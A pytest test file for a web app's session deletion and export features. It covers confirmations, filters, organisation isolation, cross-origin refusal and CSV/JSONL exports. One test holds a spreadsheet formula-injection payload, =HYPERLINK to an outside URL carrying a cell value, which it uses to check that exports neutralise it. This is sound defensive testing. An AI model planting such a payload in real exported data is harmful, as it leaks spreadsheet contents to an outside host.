"""Deleting and exporting sessions that were chosen in the list."""

import codecs
import csv
import html
import io
import json
import re
import sys
from http import HTTPStatus
from pathlib import Path
from typing import Any

import pytest
import requests
from click.testing import CliRunner

from hl_sessions.server.commands.data import import_data
from hl_sessions.server.database import retrying
from tests.server.page.conftest import Reader
from tests.servers import locked_file, served
from tests.waiting import PATIENCE, wait_until

FIELD = re.compile(r'<input type="hidden" name="(\w+)" value="([^"]*)">')


def log(reader: Any, unique: str, count: int, **more: Any) -> list[str]:
    """Log a datapoint in each of several sessions, and return the IDs of the sessions, oldest first."""
    created = reader.log(
        *(
            {"project": unique, "session_reference_id": f"{unique} {n}", "output": f"output {n} of {unique}"}
            | more
            for n in range(count)
        )
    )
    return [one["session_id"] for one in created]


def asked(reader: Any, query: str = "", **chosen: Any) -> tuple[str, dict[str, list[str]]]:
    """Return the question before a deletion, and the form to confirm it."""
    answer = reader.post(f"/sessions/delete{query}", data=chosen)
    assert answer.ok, answer.text
    question = re.search("<h1>(.*?)</h1>", answer.text)
    assert question
    form: dict[str, list[str]] = {}
    for name, value in FIELD.findall(answer.text):
        form.setdefault(name, []).append(html.unescape(value))
    return question[1], form


def confirm(reader: Any, form: dict[str, list[str]], query: str = "") -> str:
    answer = reader.post(f"/sessions/delete/confirmed{query}", data=form)
    assert answer.ok, answer.text
    shown = re.sub(r"<[^>]+>", " ", answer.text.partition("<h1>")[2])
    return " ".join(shown.split())


def sessions_of(reader: Any, unique: str) -> list[str]:
    return re.findall(r'<tr data-id="([^"]+)"', reader.read(f"/?q={unique}"))


def export(reader: Any, extension: str, query: str = "", **chosen: Any) -> requests.Response:
    answer: requests.Response = reader.post(f"/sessions/export.{extension}{query}", data=chosen)
    assert answer.ok, answer.text
    assert re.fullmatch(
        rf'attachment; filename="sessions-\d{{4}}-\d\d-\d\d\.{extension}"',
        answer.headers["Content-Disposition"],
    )
    return answer


def test_chosen_sessions_are_deleted_once_that_is_confirmed(reader: Any, unique: str) -> None:
    """The question has their number, and other sessions stay."""
    first, second, third = log(reader, unique, 3)
    reader.log(project=unique, session_id=first, output="more")
    question, form = asked(reader, session=[first, third])
    assert question == "Delete 2 sessions with 3 datapoints?"
    assert sessions_of(reader, unique) == [third, second, first]
    told = confirm(reader, form)
    assert "2 sessions with 3 datapoints are deleted." in told
    assert "gone" not in told
    assert sessions_of(reader, unique) == [second]
    assert reader.get(f"/sessions/{first}").status_code == HTTPStatus.NOT_FOUND


def test_what_is_gone_meanwhile_is_told(reader: Any, unique: str) -> None:
    """It is no error if another reader was faster."""
    first, second, third = log(reader, unique, 3)
    _, form = asked(reader, session=[first, second])
    confirm(reader, asked(reader, session=first)[1])
    assert "1 session with 1 datapoint is deleted. 1 more was gone already." in confirm(reader, form)
    assert sessions_of(reader, unique) == [third]
    assert "0 sessions with 0 datapoints are deleted. 2 more were gone already." in confirm(reader, form)
    answer = reader.post("/sessions/delete", data={"session": [first, second]})
    assert answer.status_code == HTTPStatus.NOT_FOUND
    assert "already deleted" in answer.text


def test_all_that_the_filter_finds_are_those_that_the_reader_was_asked_about(
    reader: Any, unique: str
) -> None:
    """Sessions that arrive or change after the question stay, and so do those outside the filter."""
    other = log(reader, f"other-{unique}", 1)
    project_id = reader.log(project=unique, session_reference_id=unique, output="kept")["project_id"]
    old = log(reader, unique, 60)
    query = f"?project={project_id}"
    question, form = asked(reader, query, all="1")
    assert question == "Delete 61 sessions with 61 datapoints?"
    new = log(reader, f"{unique} new", 2, project=unique)
    changed = reader.log(project=unique, session_id=old[3], output="more")["session_id"]
    told = confirm(reader, form, query)
    assert "60 sessions with 60 datapoints are deleted." in told
    assert "1 more was gone already, or changed since you were asked, and so stayed." in told
    found = re.findall(r'<tr data-id="([^"]+)"', reader.read(f"/{query}"))
    assert set(found) == {*new, changed}
    assert sessions_of(reader, f"other-{unique}") == other


def test_the_question_has_the_filter(reader: Any, unique: str) -> None:
    """As it can be typed into the field to search, also those parts that have fields of their own."""
    created = reader.log(project=f"{unique} <b>", session_reference_id=unique, output=unique, error="Oh")
    fields = {"q": unique, "project": created["project_id"], "from": "2026-01-01", "until": "2999-12-31"}
    answer = reader.post("/sessions/delete", params=fields | {"errors": "1"}, data={"all": "1"})
    shown = re.search("all sessions that the filter <code>(.*?)</code> finds.", answer.text)
    assert shown
    filter_text = html.unescape(shown[1])
    assert filter_text == f'{unique} project:"{unique} <b>" began>=2026-01-01 began<=2999-12-31 errors>0'
    assert f'<tr data-id="{created["session_id"]}"' in reader.get("/", params={"q": filter_text}).text
    assert "These are all sessions." in reader.post("/sessions/delete", data={"all": "1"}).text


def test_a_deleted_session_leads_back_to_the_list(reader: Any, unique: str) -> None:
    """The page of a session has the button, and keeps the filter."""
    (session_id,) = log(reader, unique, 1)
    page = reader.read(f"/sessions/{session_id}?q={unique}")
    assert f'action="/sessions/delete?q={unique}"' in page
    _, form = asked(reader, f"?q={unique}", session=session_id)
    answer = reader.post(f"/sessions/delete/confirmed?q={unique}", data=form, allow_redirects=False)
    assert answer.status_code == HTTPStatus.SEE_OTHER
    assert answer.headers["Location"] == f"/?q={unique}"
    assert sessions_of(reader, unique) == []


@pytest.mark.parametrize(
    ("path", "form", "message"),
    [
        ("delete", {}, "no session is chosen"),
        ("export.csv", {}, "no session is chosen"),
        ("delete", {"session": "sesh_%"}, "session has to be the ID of a session"),
        ("delete", {"all": "1", "unchanged_since": "then"}, "unchanged_since has to be a time"),
        ("delete/confirmed", {"all": "1"}, "unchanged_since is missing"),
        (
            "delete/confirmed",
            {"all": "1", "unchanged_since": "2026-01-01T00:00:00+00:00"},
            "count has to be a number",
        ),
    ],
)
def test_a_choice_that_cannot_be_understood_is_refused(
    sqlite_reader: Any, path: str, form: dict[str, str], message: str
) -> None:
    answer = sqlite_reader.post(f"/sessions/{path}", data=form)
    assert answer.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
    assert message in answer.text


def test_more_than_a_form_can_take_is_told_on_a_page(sqlite_reader: Any, unique: str) -> None:
    """It says what to choose instead. A reader may choose on and on in a list that new rows come into."""
    (session_id,) = log(sqlite_reader, unique, 1)
    for path in ("delete", "delete/confirmed", "export.csv"):
        answer = sqlite_reader.post(f"/sessions/{path}", data={"session": [session_id] * 500})
        assert answer.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
        assert "<h1>This is too much at once</h1>" in answer.text
        assert "Choose fewer sessions or all that the filter finds" in answer.text
    assert sessions_of(sqlite_reader, unique) == [session_id]


def test_nothing_of_another_organisation_is_deleted_or_exported(locked_server: Any, unique: str) -> None:
    """Its sessions do not exist for others, neither single ones nor all together."""
    reader, _ = locked_server.reader(f"{unique} one")
    stranger, _ = locked_server.reader(f"{unique} two")
    session_ids = log(reader, unique, 2)
    own = log(stranger, unique, 1)
    assert stranger.post("/sessions/delete", data={"session": session_ids}).status_code == 404
    assert "0 sessions with 0 datapoints" in confirm(stranger, {"session": session_ids})
    assert export(stranger, "txt", session=session_ids).text == ""
    assert export(stranger, "csv", session=session_ids).text.count("\n") == 1
    lines = export(stranger, "jsonl", all="1").text
    assert f"{unique} one" not in lines
    assert not [session_id for session_id in session_ids if session_id in lines]
    question, form = asked(stranger, all="1")
    assert question == "Delete 1 session with 1 datapoint?"
    confirm(stranger, form)
    assert sessions_of(stranger, unique) == []
    assert own[0] not in session_ids
    assert sessions_of(reader, unique) == session_ids[::-1]


@pytest.mark.parametrize("path", ["delete", "delete/confirmed", "export.jsonl"])
def test_no_other_page_has_a_reader_delete_or_export(sqlite_reader: Any, unique: str, path: str) -> None:
    (session_id,) = log(sqlite_reader, unique, 1)
    headers = {"Origin": "https://example.com"}
    answer = sqlite_reader.post(f"/sessions/{path}", data={"session": session_id}, headers=headers)
    assert answer.status_code == HTTPStatus.FORBIDDEN
    assert sessions_of(sqlite_reader, unique) == [session_id]


def test_a_deletion_goes_on_when_the_reader_leaves(reader: Any, unique: str) -> None:
    session_ids = log(reader, unique, 100)
    for session_id in session_ids[:5]:
        reader.log(*[{"project": unique, "session_id": session_id, "output": "x"}] * 200)
    _, form = asked(reader, session=session_ids)
    with reader.post("/sessions/delete/confirmed", data=form, stream=True) as answer:
        assert b"Deletion" in next(answer.iter_content(None))
    wait_until(lambda: not sessions_of(reader, unique))


def test_an_export_of_chosen_sessions_can_be_imported(reader: Any, unique: str, tmp_path: Path) -> None:
    """With their records, and nothing else."""
    first, second, _ = log(reader, unique, 3, feedback=[{"type": "rating", "value": "good"}])
    parent = reader.log(project=unique, session_id=first, output="answer")
    reader.log(project=unique, session_id=first, parent_id=parent["id"], output="step")
    answer = export(reader, "jsonl", session=[second, first])
    assert answer.headers["Content-Type"] == "application/jsonl"
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert [line["record"] for line in lines] == [
        *["organisations", "projects", "sessions", "sessions"],
        *["logs"] * 4,
        *["feedback"] * 2,
    ]
    assert [line["parent_id"] for line in lines if "parent_id" in line] == [parent["id"]]
    database = str(tmp_path / "imported.sqlite3")
    result = CliRunner().invoke(import_data, ["--db", database, "-"], input=answer.text)
    assert result.exit_code == 0, result.output
    with served(database) as url:
        page = requests.get(f"{url}/sessions", timeout=PATIENCE).json()
        assert [one["id"] for one in page["records"]] == [second, first]
        assert [one["datapoints_count"] for one in page["records"]] == [1, 3]


@pytest.mark.parametrize("extension", ["jsonl", "csv", "txt"])
def test_all_that_the_filter_finds_is_exported(reader: Any, unique: str, extension: str) -> None:
    """However many parts the list has."""
    session_ids = log(reader, unique, 120)
    other = log(reader, f"{unique}-other", 1)
    text = export(reader, extension, f"?q=output&project={project_of(reader, session_ids[0])}", all="1").text
    assert all(session_id in text for session_id in session_ids)
    assert other[0] not in text


def project_of(reader: Any, session_id: str) -> str:
    page = reader.read(f"/sessions/{session_id}")
    match = re.search(r'href="/\?project=([\w-]+)"', page)
    assert match
    return match[1]


def test_ids_are_one_on_each_line(reader: Any, unique: str) -> None:
    session_ids = log(reader, unique, 2)
    assert export(reader, "txt", session=session_ids).text == "".join(f"{one}\n" for one in session_ids)


def test_csv_has_a_row_for_each_datapoint(reader: Any, unique: str) -> None:
    """As in RFC 4180, with any text, after the mark of UTF-8. Values that are JSON stay JSON."""
    output = 'one, "two"\r\nthree;\nünï \N{GRINNING FACE}'
    created = reader.log(
        {
            "project": unique,
            "session_reference_id": unique,
            "inputs": {"question": 'Why, "really"?', "numbers": [1, 2.5]},
            "metadata": {"customer": "acme"},
            "output": output,
            "judgment": -0.5,
            "duration": 0.25,
            "prompt_tokens": 7,
            "feedback": [{"type": "rating", "value": "good", "user": "me"}],
            "created_at": "2026-03-01T12:00:00",
        },
        {"project": unique, "session_reference_id": unique},
    )
    told = {"name": "=Shoes", "user": "alice", "ended_at": "2026-03-01T12:00:05Z"}
    session = f"{reader.url}/v4/sessions/{created[0]['session_id']}"
    requests.patch(session, json=told, timeout=PATIENCE).raise_for_status()
    answer = export(reader, "csv", session=created[0]["session_id"])
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert answer.content.startswith(codecs.BOM_UTF8 + b"id,")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))
    assert [row["id"] for row in rows] == [one["id"] for one in created]
    row = rows[0]
    assert row["session_id"] == created[0]["session_id"]
    assert row["project"] == unique
    assert row["output"] == output
    assert json.loads(row["inputs"]) == {"question": 'Why, "really"?', "numbers": [1, 2.5]}
    assert json.loads(row["metadata"]) == {"customer": "acme"}
    assert json.loads(row["feedback"]) == [{"type": "rating", "value": "good", "user": "me"}]
    assert (row["judgment"], row["duration"], row["prompt_tokens"]) == ("-0.5", "0.25", "7")
    assert row["created_at"] == "2026-03-01T12:00:00+00:00"
    for one in rows:
        assert [one[f"session_{name}"] for name in ("name", "user", "reference_id", "ended_at")] == [
            "'=Shoes",
            "alice",
            unique,
            "2026-03-01T12:00:05+00:00",
        ]
    assert rows[1]["output"] == rows[1]["metadata"] == rows[1]["feedback"] == ""


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_text_is_a_formula_to_a_spreadsheet(sqlite_reader: Any, unique: str, begin: str) -> None:
    """In any field."""
    text = f'{begin}HYPERLINK("https://example.com/"&A1)'
    created = sqlite_reader.log(
        project=f"{text} {unique}", session_reference_id=unique, output=text, error=text, source=text
    )
    exported = export(sqlite_reader, "csv", session=created["session_id"]).content.decode()
    (row,) = csv.DictReader(io.StringIO(exported, newline=""), strict=True)
    assert row["output"] == row["error"] == row["source"] == f"'{text}"
    assert row["project"] == f"'{text} {unique}"
    cells = next(csv.reader(io.StringIO(exported.partition("\r\n")[2], newline="")))
    assert not [cell for cell in cells if cell.startswith(begin)]


def test_a_deletion_that_stops_says_how_far_it_got(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, unique: str
) -> None:
    """It also says how to delete the rest."""
    database = tmp_path / "locked.sqlite3"
    with served(database) as base_url:
        reader = Reader(base_url.removesuffix("/v4"))
        session_ids = log(reader, unique, 2)
        _, form = asked(reader, session=session_ids)
        monkeypatch.setattr(retrying, "PATIENCE", 0.2)
        with locked_file(database):
            told = confirm(reader, form)
        monkeypatch.undo()
        assert "0 sessions with 0 datapoints are deleted." in told
        assert "Then it stopped: the database is locked or does not answer." in told
        assert "Delete the rest" in told
        assert sessions_of(reader, unique) == session_ids[::-1]
        confirm(reader, asked(reader, session=session_ids)[1])
        assert sessions_of(reader, unique) == []
        reader.http.close()


@pytest.mark.skipif(sys.platform != "linux", reason="the system tells memory in other units elsewhere")
@pytest.mark.slow
@pytest.mark.parametrize("extension", ["jsonl", "csv"])
def test_of_large_datapoints_few_are_exported_at_a_time(
    tmp_path: Path, spawn: Any, unique: str, extension: str
) -> None:
    """However many a session has."""
    server = spawn(tmp_path)
    reader = Reader(server.base_url.removesuffix("/v4"))
    large = {"project": unique, "session_reference_id": unique, "inputs": {"question": "x" * 900_000}}
    for _ in range(12):
        reader.log(*[large] * 10)
    status = Path(f"/proc/{server.process.pid}/status")
    status.with_name("clear_refs").write_text("5")  # from now on, the peak of the memory is counted anew
    before = memory_in(status.read_text())
    exported = len(export(reader, extension, all="1").content)
    assert exported > 120 * 900_000
    assert memory_in(status.read_text()) - before < 40_000_000
    reader.http.close()


def memory_in(status: str) -> int:
    """Return the peak of the memory of a process, in bytes."""
    match = re.search(r"VmHWM:\s+(\d+) kB", status)
    assert match
    return 1024 * int(match[1])
